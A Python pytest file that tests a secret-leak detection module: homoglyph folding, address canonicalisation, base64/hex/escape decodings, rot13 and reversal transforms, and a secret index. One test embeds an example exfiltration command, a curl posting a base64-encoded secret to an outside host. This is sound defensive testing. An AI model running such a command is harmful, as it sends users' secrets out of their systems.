"""Unit tests of value matching (security/matching.py): each function's exact results at its edges.

The taint tests see these functions only through the tracker; here each rule is pinned where it is defined: the
length limits at their edges, every look-alike of the folding table, address canonicalisation, each decoding and
transform (and what is *not* decoded), embedded runs and quoted literals, and the secret index (whole values,
windows, the window cap, owners, ``ignore``).
"""

from __future__ import annotations

import base64
import codecs
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stitchwork.security import matching
from stitchwork.security.matching import (
    SecretIndex,
    canonical,
    decodings,
    embedded,
    folded_tokens,
    normalise,
    rot13,
    skeleton,
    strip_address,
    tokens,
    transforms,
)

# The look-alike table, written out here (not imported) so a changed entry in the module is noticed.
LOOKALIKES = {
    # Cyrillic
    "а": "a", "в": "b", "е": "e", "к": "k", "м": "m", "н": "h", "о": "o", "р": "p", "с": "c", "т": "t",
    "у": "y", "х": "x", "ѕ": "s", "і": "i", "ј": "j", "ԁ": "d", "ԛ": "q", "ԝ": "w", "ӏ": "l", "ɡ": "g",
    "А": "a", "В": "b", "Е": "e", "К": "k", "М": "m", "Н": "h", "О": "o", "Р": "p", "С": "c", "Т": "t",
    "У": "y", "Х": "x", "Ѕ": "s", "І": "i", "Ј": "j",
    # Greek
    "α": "a", "ο": "o", "ρ": "p", "ν": "v", "τ": "t", "ι": "i", "κ": "k", "χ": "x", "υ": "u", "ε": "e",
    "Α": "a", "Β": "b", "Ε": "e", "Η": "h", "Ι": "i", "Κ": "k", "Μ": "m", "Ν": "n", "Ο": "o", "Ρ": "p",
    "Τ": "t", "Υ": "y", "Χ": "x", "Ζ": "z",
    # Latin look-alikes NFKC keeps, and one it folds itself
    "ı": "i", "ȷ": "j", "ℓ": "l",
}
LOWER = "abcdefghijklmnopqrstuvwxyz"
TEXT = st.text(alphabet=LOWER + "0123456789 .,:!?-", min_size=matching.MIN_MATCH, max_size=24).filter(
    lambda t: len(t.strip()) >= matching.MIN_MATCH)


def b64(text: str, *, urlsafe: bool = False, pad: bool = True) -> str:
    raw = text.encode()
    out = (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()
    return out if pad else out.rstrip("=")


# --- folding --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("char", sorted(LOOKALIKES))
def test_each_listed_lookalike_folds_to_its_latin_letter(char: str) -> None:
    latin = LOOKALIKES[char]
    assert normalise(char) == latin
    assert normalise(f"x{char}x") == f"x{latin}x"
    assert skeleton(f"{char}-{char}") == latin * 2


@settings(max_examples=60, deadline=None)
@given(word=st.text(alphabet=LOWER, min_size=1, max_size=12), data=st.data())
def test_a_word_spelled_with_any_lookalikes_folds_to_the_latin_word(word: str, data: st.DataObject) -> None:
    by_latin: dict[str, list[str]] = {}
    for char, latin in LOOKALIKES.items():
        by_latin.setdefault(latin, []).append(char)
    spoofed = "".join(data.draw(st.sampled_from([c, *by_latin.get(c, [])])) for c in word)
    assert normalise(spoofed) == word
    assert skeleton(spoofed + "-" + word.upper()) == word + word


def test_normalise_applies_compatibility_forms_removes_invisibles_and_collapses_space() -> None:
    assert normalise("ＥＸＡＭＰＬＥ\uff0eｃｏｍ") == "example.com"  # full-width letters and stop
    assert normalise("ﬁle") == "file"  # ligature
    assert normalise("pay\u200bpal\u00ad\u202eX\ufe0f\U000e0041") == "paypalx"
    assert normalise("  Straße \t\n  ONE  ") == "strasse one"
    assert normalise("\u200b") == ""


def test_canonical_keeps_case_and_composes() -> None:
    assert canonical("  Cafe\u0301   Bob\n") == "Café Bob"


def test_skeleton_keeps_only_folded_letters_and_digits() -> None:
    assert skeleton("AB-12_cd ef.\u200b gh!") == "ab12cdefgh"
    assert skeleton("__--  ") == ""


def test_folded_tokens_fold_and_strip_address_prefixes() -> None:
    assert folded_tokens("Write to MAILTO:Bob@Ex\u0430mple.COM, or see https://www.Ex\u0430mple.com/a/ ...!") == [
        "write", "to", "mailto", "bob@example.com", "or", "see", "example.com/a"]
    assert folded_tokens("Ｈｅｌｌｏ\u200b") == ["hello"]


# --- addresses and trust tokens --------------------------------------------------------------------------------


def test_strip_address_removes_every_leading_prefix_and_trailing_slashes() -> None:
    assert strip_address("https://www.example.com/") == "example.com"
    assert strip_address("HTTP://WWW.Example.com/a//") == "Example.com/a"
    assert strip_address("mailto:bob@example.com") == "bob@example.com"
    assert strip_address("http://https://x.io") == "x.io"
    assert strip_address("example.com/path") == "example.com/path"
    assert strip_address("webmail.example.com") == "webmail.example.com"


def test_strip_address_keeps_a_value_that_is_only_a_prefix() -> None:
    assert strip_address("https://") == "https://"
    assert strip_address("www.") == "www."
    assert strip_address("///") == "///"
    assert strip_address("a/") == "a"


def test_tokens_canonicalise_addresses_losslessly() -> None:
    assert tokens("Mail Bob@Example.COM now.") == ["Mail", "Bob@example.com", "now"]
    assert tokens("see HTTPS://WWW.Example.COM/Path/ and www.example.COM") == [
        "see", "example.com/Path", "and", "example.com"]
    assert tokens("at www.example.com.They left") == ["at", "example.com", "They", "left"]
    assert tokens("Example.COM/Path/") == ["example.com/Path"]
    assert tokens("Example.COM/") == ["example.com"]
    assert tokens("iban de89370400440532013000 please") == ["iban", "DE89370400440532013000", "please"]
    assert tokens("File.TXT") == ["File.TXT"]


def test_a_mailto_token_is_canonicalised_as_the_address() -> None:
    # a colon before a digit does not split a token, so the whole "mailto:..." reaches the canonicaliser
    assert tokens("mailto:123@Example.COM") == ["123@example.com"]
    assert tokens("MAILTO:42@Example.org.") == ["42@example.org"]


def test_tokens_drop_tokens_that_are_only_punctuation() -> None:
    assert tokens("hello ... world !? *") == ["hello", "world"]
    assert tokens("...") == []


# --- decodings ------------------------------------------------------------------------------------------------


def test_percent_encoding_is_decoded_and_an_unchanged_decoding_is_not_returned() -> None:
    assert decodings("bob%40evil.com") == ["bob@evil.com"]
    assert decodings("100%") == []
    assert decodings("%zz") == []
    assert decodings("plain text") == []


def test_backslash_escapes_are_decoded() -> None:
    assert decodings("\\u0062ob\\x40evil.com") == ["bob@evil.com"]
    assert decodings("\\U0001F600 ok") == ["\U0001F600 ok"]
    assert decodings("C:\\temp") == []


def test_an_escape_out_of_unicode_range_is_left_as_written() -> None:
    assert decodings("a\\U00110000b\\x41") == ["a\\U00110000bA"]
    assert decodings("\\UFFFFFFFF\\x41") == ["\\UFFFFFFFFA"]  # past what chr() takes at all


def test_html_entities_are_decoded_numeric_and_named() -> None:
    assert decodings("&#98;ob&#x40;evil.com") == ["bob@evil.com"]
    assert decodings("a &lt;b&gt; c") == ["a <b> c"]
    assert decodings("fish &amp chips") == ["fish & chips"]  # a legacy entity needs no semicolon
    assert decodings("AT&T; rocks") == []


def test_hex_of_a_whole_value_is_decoded() -> None:
    value = b"Hello world!".hex()
    assert decodings(value) == ["Hello world!"]
    assert decodings(value.upper()) == ["Hello world!"]
    assert decodings(f"  {value}  ") == ["Hello world!"]
    assert decodings("48656c6c6f21") == []  # under 8 bytes: too short to be an encoding


def test_base64_of_a_whole_value_is_decoded_standard_url_safe_and_unpadded() -> None:
    assert decodings(b64("hello world")) == ["hello world"]
    assert decodings(b64("hello world", pad=False)) == ["hello world"]
    assert decodings(b64("hello!")) == ["hello!"]  # exactly 8 characters
    assert decodings(b64("hi")) == []  # under 8 characters
    tricky = "a>?b~~?>ok"  # standard base64 holds '+' and '/', URL-safe '-' and '_'
    assert "+" in b64(tricky) and "/" in b64(tricky)
    assert decodings(b64(tricky)) == [tricky]
    assert decodings(b64(tricky, urlsafe=True)) == [tricky]
    assert decodings(b64(tricky, urlsafe=True, pad=False)) == [tricky]


def test_a_value_of_hex_digits_is_also_tried_as_base64() -> None:
    encoded = b64("h04h05h06h07")
    assert encoded == "aDA0aDA1aDA2aDA3"  # hex digits only: its hex decoding is not text
    assert decodings(encoded) == ["h04h05h06h07"]
    assert decodings(b"1234567890abcdef".hex()) == ["1234567890abcdef"]  # its base64 decoding is not text


def test_an_all_letter_base64_value_is_decoded_when_it_gives_ascii_text() -> None:
    encoded = b64("abcabsabc")
    assert encoded.isalpha()
    assert decodings(encoded) == ["abcabsabc"]
    assert decodings("Password") == []  # a word whose bytes are not text


def test_digits_are_never_taken_for_base64() -> None:
    assert base64.b64decode("04000400").decode() == "Ӎ4Ӎ4"
    assert decodings("04000400") == []
    assert decodings("0400040a") == []


def test_bytes_that_are_not_text_are_not_a_decoding() -> None:
    assert decodings(base64.b64encode(b"\xff\xfe\xfd\xfc\xfb\xfa").decode()) == []  # not UTF-8
    assert decodings(base64.b64encode(b"\x00\x01\x02\x03\x04\x05").decode()) == []  # control characters
    assert decodings(base64.b64encode(b"").decode() + "A" * 9) == []  # a length base64 cannot have


def test_decoded_text_must_be_at_least_nine_tenths_printable() -> None:
    nine = base64.b64encode(b"abcdefghi\x01").decode()  # 9 of 10 printable
    eight = base64.b64encode(b"abcdefgh\x01\x02").decode()  # 8 of 10
    assert decodings(nine) == ["abcdefghi\x01"]
    assert decodings(eight) == []
    assert decodings(base64.b64encode(b"line one\nline\ttwo").decode()) == ["line one\nline\ttwo"]


@settings(max_examples=60, deadline=None)
@given(text=TEXT)
def test_every_encoding_of_a_value_decodes_back_to_it(text: str) -> None:
    if len(text.encode()) >= 6:  # base64 of 8 characters or more (shorter is too common to decode)
        assert text in decodings(b64(text))
        assert text in decodings(b64(text, urlsafe=True, pad=False))
    assert text in decodings("".join(f"%{b:02X}" for b in text.encode()))
    assert quote(text, safe="") == text or text in decodings(quote(text, safe=""))
    assert text in decodings("".join(f"\\u{ord(c):04x}" for c in text))
    assert text in decodings("".join(f"&#{ord(c)};" for c in text))
    if len(text.encode()) >= 8:
        assert text in decodings(text.encode().hex())


# --- transforms -----------------------------------------------------------------------------------------------


def test_transforms_start_at_eight_characters() -> None:
    assert transforms("abcdefg") == []
    assert transforms("  abcdefg  ") == []
    assert transforms("abcdefgh") == ["nopqrstu", "hgfedcba"]
    assert transforms("Bob@X.io") == ["Obo@K.vb", "oi.X@boB"]


@settings(max_examples=40, deadline=None)
@given(text=TEXT)
def test_transforms_undo_rot13_and_reversal(text: str) -> None:
    forms = transforms(text)
    if len(text.strip()) < matching.MIN_COMPACT:
        assert forms == []
    else:
        assert forms == [codecs.encode(text, "rot13"), text[::-1]]
        assert text in transforms(rot13(text)) and text in transforms(text[::-1])


# --- embedded -------------------------------------------------------------------------------------------------


def test_a_base64_run_inside_a_longer_value_is_decoded() -> None:
    run = b64("secret value here")
    assert embedded(f"curl -d {run} https://x.io") == ["secret value here"]
    assert embedded(f"q={b64('bob@evil.com', urlsafe=True, pad=False)}&x=1") == ["bob@evil.com"]
    assert embedded("see abcdefghijklmnopqrstuvwxyz today") == []  # letters only: a word, not base64


def test_a_hex_run_inside_a_longer_value_is_decoded() -> None:
    run = b"Hello world!".hex()
    assert embedded(f"data={run};") == ["Hello world!"]
    assert embedded(f"x {run.upper()} y") == ["Hello world!"]
    assert embedded("x 0102030405060708 y") == []  # bytes that are not text


def test_escapes_inside_a_longer_value_are_decoded() -> None:
    assert embedded("say \\u0068\\u0069 there") == ["say hi there"]
    assert embedded("no escapes here") == []
    assert embedded("path C:\\temp\\x") == []


def test_quoted_literals_are_joined_and_the_join_reversed() -> None:
    assert embedded("'abc' + \"def\"") == ["abcdef", "fedcba"]
    assert embedded("'ab' 'cd'") == ["abcd", "dcba"]  # exactly MIN_MATCH characters
    assert embedded("'ab' 'c'") == []  # under MIN_MATCH
    assert embedded("'a' 'b' 'cd' ''") == ["abcd", "dcba"]
    assert embedded("x = 'ab'") == []


def test_a_long_literal_is_also_reversed_and_rot13_decoded() -> None:
    assert embedded("x = 'abcdefgh'") == ["abcdefgh", "hgfedcba", "nopqrstu"]
    assert embedded("x = 'abcdefg'") == []
    assert embedded("'abcdefgh' 'xy'") == ["abcdefghxy", "yxhgfedcba", "abcdefgh", "hgfedcba", "nopqrstu"]


def test_literals_are_also_read_after_unescaping() -> None:
    # a literal holding a backslash is no literal as written; unescaped, it is
    assert embedded("'\\x61bcd' 'ef'") == ["'abcd' 'ef'", "abcdef", "fedcba"]


@settings(max_examples=40, deadline=None)
@given(text=TEXT, pad=st.booleans())
def test_any_base64_or_hex_run_of_a_value_is_found_inside_a_command(text: str, pad: bool) -> None:
    run = b64(text, pad=pad)
    if len(run.rstrip("=")) >= 16:
        assert text in embedded(f"echo {run} | base64 -d")
    if len(text.encode()) >= 8:
        assert text in embedded(f"printf {text.encode().hex()} | xxd -r -p")


# --- secret index ---------------------------------------------------------------------------------------------


def test_an_empty_index_is_false_and_finds_nothing() -> None:
    index = SecretIndex()
    assert not index and index.values == 0
    assert index.find("anythingatall") == set()


def test_values_under_eight_alphanumerics_are_not_tracked() -> None:
    index = SecretIndex()
    index.add(["abc-defg", "1234567", "__--__--__--"], owner=1)
    assert not index and index.values == 0
    index.add(["abcd-efgh"], owner=2)
    assert index and index.values == 1
    assert index.find("abcdefgh") == {2}
    assert index.find("xxabcdefghxx") == {2}
    assert index.find("abcdefg") == set()
    index.add(["ijklmnop", "qrstuvwx", "short"], owner=3)
    assert index.values == 3


def test_a_value_of_up_to_twelve_characters_is_found_only_whole() -> None:
    index = SecretIndex()
    index.add(["abcdefghijkl"], owner=1)  # 12
    assert index.find("abcdefghijkl") == {1}
    assert index.find("zzabcdefghijklzz") == {1}
    assert index.find("abcdefghijk") == set()  # 11 of its 12
    assert index.find("bcdefghijkl") == set()


def test_a_longer_value_is_found_by_any_window_of_twelve() -> None:
    value = "abcdefghijklmnop"  # 16: windows at 0..4
    index = SecretIndex()
    index.add([value], owner=7)
    for start in range(len(value) - 12 + 1):
        assert index.find(value[start:start + 12]) == {7}
        assert index.find("xy" + value[start:start + 12]) == {7}
    assert index.find(value[:11]) == set()
    assert index.find(value[5:]) == set()  # the last 11
    assert index.find("abcdefghijkm") == set()


def test_a_short_value_is_found_at_the_very_end_of_the_text() -> None:
    index = SecretIndex()
    index.add(["abcdefgh"], owner=1)
    index.add(["0123456789ab"], owner=2)
    assert index.find("zzzzabcdefgh") == {1}
    assert index.find("zzzz0123456789ab") == {2}
    assert index.find("zzzzabcdefghzzzz0123456789ab") == {1, 2}
    assert index.find("abcdefgh0123456789a") == {1}


def test_the_first_owner_of_a_value_keeps_it_and_each_value_reports_its_owner() -> None:
    index = SecretIndex()
    index.add(["abcdefgh"], owner=1)
    index.add(["abcdefgh", "ijklmnopqrstuvw"], owner=2)
    index.add(["ijklmnopqrstuvw"], owner=3)
    assert index.values == 4
    assert index.find("abcdefgh") == {1}
    assert index.find("ijklmnopqrst") == {2}
    assert index.find("abcdefgh ijklmnopqrstuvw".replace(" ", "")) == {1, 2}


def test_hits_inside_the_ignored_skeleton_do_not_count() -> None:
    index = SecretIndex()
    index.add(["abcdefgh"], owner=1)
    index.add(["0123456789abcdef"], owner=2)
    assert index.find("abcdefgh", ignore="userwroteabcdefghhere") == set()
    assert index.find("abcdefgh", ignore="abcdefg") == {1}
    assert index.find("0123456789abcdef", ignore="0123456789ab") == {2}  # later windows are not ignored
    assert index.find("0123456789abcdef", ignore="x0123456789abcdefx") == set()
    assert index.find("zzabcdefgh0123456789ab", ignore="abcdefgh") == {2}


def test_past_the_window_cap_values_are_found_whole_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(matching, "MAX_SECRET_WINDOWS", 2)
    index = SecretIndex()
    index.add(["abcdefghijklm"], owner=1)  # 13: two windows, reaching the cap
    index.add(["nopqrstuvwxyz"], owner=2)  # past it: whole only
    assert index.values == 2
    assert index.find("abcdefghijkl") == {1} and index.find("bcdefghijklm") == {1}
    assert index.find("nopqrstuvwxyz") == {2}
    assert index.find("nopqrstuvwxy") == set()
    assert index.find("opqrstuvwxyz") == set()


def test_under_the_window_cap_a_longer_value_gets_windows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(matching, "MAX_SECRET_WINDOWS", 3)
    index = SecretIndex()
    index.add(["abcdefghijkl"], owner=1)  # 12: whole, no window
    index.add(["mnopqrstuvwxy"], owner=2)  # two windows: 2 < 3
    index.add(["0123456789abc"], owner=3)  # still under the cap: two more
    index.add(["zyxwvutsrqpon"], owner=4)  # 4 >= 3: whole only
    assert index.find("mnopqrstuvwx") == {2} and index.find("nopqrstuvwxy") == {2}
    assert index.find("0123456789ab") == {3} and index.find("123456789abc") == {3}
    assert index.find("zyxwvutsrqpo") == set()
    assert index.find("zyxwvutsrqpon") == {4}
    assert index.find("abcdefghijkl") == {1}
